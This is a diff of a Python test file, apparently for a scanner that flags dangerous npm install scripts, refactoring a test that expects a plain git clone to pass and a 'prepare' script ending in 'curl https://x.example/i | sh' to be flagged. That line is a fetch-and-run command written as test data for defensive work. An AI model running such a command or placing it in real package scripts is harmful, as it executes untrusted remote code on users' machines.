@@ -86,10 +86,10 @@ def test_building_is_no_install_command() -> None:
 
 
 def test_packing_fetches_sources_and_runs_nothing_of_them() -> None:
-    scripts = {"prepare": "[ -d api ] && (cd api && git pull) || git clone https://github.com/example/api"}
-    assert _facts({}, {"package.json": {"scripts": scripts}}) == []
-    scripts["prepare"] += " && curl https://x.example/i | sh"
-    assert [fact.name for fact in _facts({}, {"package.json": {"scripts": scripts}})] == ["install-command"]
+    fetched = "[ -d api ] && (cd api && git pull) || git clone https://github.com/example/api"
+    for command, told in ((fetched, []), (f"{fetched} && curl https://x.example/i | sh", ["install-command"])):
+        metadata: dict[str, Json] = {"package.json": {"scripts": {"prepare": command}}}
+        assert [fact.name for fact in _facts({}, metadata)] == told
 
 
 def test_a_build_back_end_of_the_project_is_read_as_what_installs_it() -> None:
